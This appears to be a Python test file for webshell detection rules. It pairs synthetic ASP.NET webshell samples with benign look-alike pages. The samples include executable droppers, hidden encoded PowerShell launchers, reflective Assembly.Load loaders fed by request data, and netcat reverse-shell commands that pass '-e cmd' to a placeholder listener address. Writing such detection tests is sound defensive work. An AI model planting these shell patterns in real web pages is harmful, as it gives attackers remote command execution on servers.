"""Rules written from the seventh unseen collection, shells inside tools (issue 14, helper X8).

Four shapes the own rules missed on first sight (BENCHMARKS.md, "Unseen shells, seventh collection"):
a page that carries an executable as a byte array, writes it to disk and starts it; a page that starts
PowerShell with an encoded command kept in the page; a handler that reaches ``Assembly.Load`` only
through reflection (``GetMethod("Load")`` + ``Invoke(null, ...)``) on bytes decoded from the request,
written with a directive that names no directive; and (third batch) a user control that starts an
uploaded netcat with ``-e cmd``. The pages below have those code shapes (and the
benign ones the shapes of ordinary pages close to them). They were written for these tests: the
"executables" are a few header bytes, the encoded command only prints a line of text, nothing is ever
compiled or run, and none of them is a copy of a real shell.
"""

from __future__ import annotations

import base64

from .rule_tables import rule_tables

#: the encoded command of the launcher reproductions: it only prints a line of text
_ENCODED = base64.b64encode(("Write-Output 'example text for a test';" * 4).encode("utf-16-le")).decode()
#: a long base64 literal that is not a command (an embedded image in the benign pages)
_IMAGE = base64.b64encode(bytes(range(256)) * 2).decode()


# --- a page that carries an executable, writes it and starts it ("aspx-exe" shape) --------------------
DROPPER_RULE = "EXT_WEBSHELL_Embedded_Executable_Dropper"

DROPPER_SHELLS: list[tuple[str, str, str]] = [
    (
        "cs-hex-array-temp-exe",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        "    byte[] b = new byte[8] {\n0x4d,0x5a,0x90,0x00,0x03,0x00,0x00,0x00 };\n"
        '    string p = System.IO.Path.Combine(System.IO.Path.GetTempPath(), "example.exe");\n'
        "    System.IO.File.WriteAllBytes(p, b);\n"
        "    System.Diagnostics.Process.Start(p);\n}\n</script>",
    ),
    (
        "vb-hex-array-filesystem",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        "    Dim b As Byte() = {&H4D, &H5A, &H90, &H0}\n"
        '    My.Computer.FileSystem.WriteAllBytes("C:\\Windows\\Temp\\example.exe", b, False)\n'
        '    Process.Start("C:\\Windows\\Temp\\example.exe")\nEnd Sub\n</script>',
    ),
    (
        "cs-handler-base64-header-filestream",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\n'
        "public class H : IHttpHandler {\n"
        "    public void ProcessRequest(HttpContext c) {\n"
        '        byte[] b = System.Convert.FromBase64String("TVqQAAMAAAAEAAAA//8AALgAAAA=");\n'
        '        using (var f = new System.IO.FileStream("C:\\\\Windows\\\\Temp\\\\example.exe", System.IO.FileMode.Create))\n'
        "            f.Write(b, 0, b.Length);\n"
        '        var i = new System.Diagnostics.ProcessStartInfo("C:\\\\Windows\\\\Temp\\\\example.exe");\n'
        "        System.Diagnostics.Process.Start(i);\n    }\n"
        "    public bool IsReusable { get { return false; } }\n}",
    ),
]

DROPPER_BENIGN: list[tuple[str, str, str]] = [
    (
        "png-icon-written-then-fixed-tool",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        "    byte[] icon = new byte[8] { 0x89,0x50,0x4e,0x47,0x0d,0x0a,0x1a,0x0a };\n"
        '    System.IO.File.WriteAllBytes(Server.MapPath("~/App_Data/icon.png"), icon);\n'
        '    System.Diagnostics.Process.Start(Server.MapPath("~/bin/thumbnailer.exe"));\n}\n</script>',
    ),
    (
        "installer-streamed-to-browser",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        "    byte[] setup = new byte[4] { 0x4d,0x5a,0x90,0x00 };\n"
        '    Response.ContentType = "application/octet-stream";\n'
        "    Response.BinaryWrite(setup);\n}\n</script>",
    ),
    (
        "report-written-then-fixed-tool",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    System.IO.File.WriteAllBytes(Server.MapPath("~/App_Data/report.csv"), GetReport());\n'
        '    var i = new System.Diagnostics.ProcessStartInfo(Server.MapPath("~/bin/archiver.exe"), "report.csv");\n'
        "    System.Diagnostics.Process.Start(i);\n}\n</script>",
    ),
]


# --- a page that starts PowerShell with an encoded command kept in the page ---------------------------
LAUNCHER_RULE = "EXT_WEBSHELL_Encoded_PowerShell_Launcher"

LAUNCHER_SHELLS: list[tuple[str, str, str]] = [
    (
        "cs-startinfo-enc-variable",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        f'    string payload = "{_ENCODED}";\n'
        "    var i = new System.Diagnostics.ProcessStartInfo();\n"
        '    i.FileName = "powershell.exe";\n'
        '    i.Arguments = "-nop -w hidden -enc " + payload;\n'
        "    System.Diagnostics.Process.Start(i);\n}\n</script>",
    ),
    (
        "cs-encodedcommand-inline",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        f'System.Diagnostics.Process.Start("powershell", "-EncodedCommand {_ENCODED}");\n%>',
    ),
    (
        "vb-shell-e",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        f'    Dim c As String = "{_ENCODED}"\n'
        '    Shell("powershell.exe -e " & c, AppWinStyle.Hide)\nEnd Sub\n</script>',
    ),
]

LAUNCHER_BENIGN: list[tuple[str, str, str]] = [
    (
        "script-file-with-executionpolicy-and-logo",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        f'const string Logo = "{_IMAGE}";\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    var i = new System.Diagnostics.ProcessStartInfo("powershell.exe",\n'
        '        "-ExecutionPolicy Bypass -File " + Server.MapPath("~/App_Data/report.ps1"));\n'
        "    System.Diagnostics.Process.Start(i);\n}\n</script>",
    ),
    (
        "help-page-explaining-enc",
        ".aspx",
        '<%@ Page Language="C#" %>\n<html><body>\n'
        "<p>Run the agent with powershell.exe -enc followed by the base64 text below:</p>\n"
        f'<pre>"{_ENCODED}"</pre>\n</body></html>',
    ),
    (
        "encoded-literal-never-started",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "// the encoded snippet is shown to the administrator to copy, not run by the page\n"
        f'const string Snippet = "powershell -enc {_ENCODED}";\n'
        "void Page_Load(object s, EventArgs e) { Code.Text = Snippet; }\n</script>",
    ),
]


# --- Assembly.Load reached by reflection on bytes decoded from the request ----------------------------
LOADER_RULE = "EXT_WEBSHELL_Assembly_Load_By_Reflection"

LOADER_SHELLS: list[tuple[str, str, str]] = [
    (
        "cs-handler-nameless-directive",
        ".ashx",
        '<%@ Language="C#" Class="H" %>\n'
        "public class H : System.Web.IHttpHandler, System.Web.SessionState.IRequiresSessionState {\n"
        "    public void ProcessRequest(System.Web.HttpContext c) {\n"
        '        byte[] d = System.Convert.FromBase64String(c.Request["p"]);\n'
        '        if (c.Session["a"] == null)\n'
        '            c.Session["a"] = typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) })\n'
        "                .Invoke(null, new object[] { d });\n    }\n"
        "    public bool IsReusable { get { return false; } }\n}",
    ),
    (
        "cs-page-decrypted-body",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Reflection" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        "    byte[] c = Request.BinaryRead(Request.ContentLength);\n"
        '    MethodInfo m = typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) });\n'
        "    object a = m.Invoke(null, new object[] { Unwrap(c) });\n}\n</script>",
    ),
    (
        "vb-page-gettype",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        '    Dim d As Byte() = Convert.FromBase64String(Request.Form("p"))\n'
        '    Dim a = GetType(System.Reflection.Assembly).GetMethod("Load", New Type() {GetType(Byte())}).Invoke(Nothing, New Object() {d})\n'
        "End Sub\n</script>",
    ),
]

LOADER_BENIGN: list[tuple[str, str, str]] = [
    (
        "plugin-loadfrom-bin",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    int page = int.Parse(Request.QueryString["page"] ?? "1");\n'
        '    var m = typeof(System.Reflection.Assembly).GetMethod("LoadFrom", new Type[] { typeof(string) });\n'
        '    m.Invoke(null, new object[] { Server.MapPath("~/bin/Plugin.dll") });\n}\n</script>',
    ),
    (
        "xml-document-load-by-reflection",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\n'
        "public class H : System.Web.IHttpHandler {\n"
        "    public void ProcessRequest(System.Web.HttpContext c) {\n"
        "        var doc = new System.Xml.XmlDocument();\n"
        '        typeof(System.Xml.XmlDocument).GetMethod("Load", new System.Type[] { typeof(System.IO.Stream) })\n'
        "            .Invoke(doc, new object[] { c.Request.InputStream });\n    }\n"
        "    public bool IsReusable { get { return false; } }\n}",
    ),
    (
        "assembly-from-app-data-no-request",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    byte[] b = System.IO.File.ReadAllBytes(Server.MapPath("~/App_Data/Reports.dll"));\n'
        '    typeof(System.Reflection.Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { b });\n'
        "}\n</script>",
    ),
]


# --- a page that starts netcat with its execute switch (third batch: a rewritten exploit control) -----
NETCAT_RULE = "EXT_WEBSHELL_Netcat_Reverse_Shell_Launcher"

NETCAT_SHELLS: list[tuple[str, str, str]] = [
    (
        "cs-control-uploaded-nc",
        ".ascx",
        '<%@ Control Language="C#" %>\n<script runat="server">\n'
        "protected override void OnLoad(EventArgs e) {\n"
        '    var nc = Server.MapPath("~/App_Data/files/nc64.exe");\n'
        "    var p = new System.Diagnostics.Process();\n"
        '    p.StartInfo.FileName = "cmd.exe";\n'
        '    p.StartInfo.Arguments = "/C " + nc + " 192.0.2.10 4444 -e cmd";\n'
        "    p.Start();\n}\n</script>",
    ),
    (
        "vb-shell-nc-powershell",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        '    Shell("C:\\Windows\\Temp\\nc.exe 192.0.2.10 443 -e powershell.exe", AppWinStyle.Hide)\n'
        "End Sub\n</script>",
    ),
    (
        "cs-ncat-exec",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'System.Diagnostics.Process.Start("ncat.exe", "192.0.2.10 8443 --ssl --exec cmd.exe");\n%>',
    ),
]

NETCAT_BENIGN: list[tuple[str, str, str]] = [
    (
        "netstat-statistics",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    var i = new System.Diagnostics.ProcessStartInfo("netstat.exe", "-e -s");\n'
        "    i.RedirectStandardOutput = true; i.UseShellExecute = false;\n"
        "    Output.Text = System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();\n}\n</script>",
    ),
    (
        "help-page-about-netcat",
        ".aspx",
        '<%@ Page Language="C#" %>\n<html><body>\n'
        "<p>Attackers often run nc.exe with -e cmd to hand a shell to a listener; block outbound traffic.</p>\n"
        "</body></html>",
    ),
    (
        "tool-with-e-cmdlets-option",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '    System.Diagnostics.Process.Start(Server.MapPath("~/bin/inventory.exe"), "-e cmdlets");\n}\n</script>',
    ),
]

# --- each rule: its shells found, its benign shapes not, a log quoting a shell is not a page ----------
CASES = (
    (DROPPER_RULE, DROPPER_SHELLS, DROPPER_BENIGN),
    (LAUNCHER_RULE, LAUNCHER_SHELLS, LAUNCHER_BENIGN),
    (LOADER_RULE, LOADER_SHELLS, LOADER_BENIGN),
    (NETCAT_RULE, NETCAT_SHELLS, NETCAT_BENIGN),
)
test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)
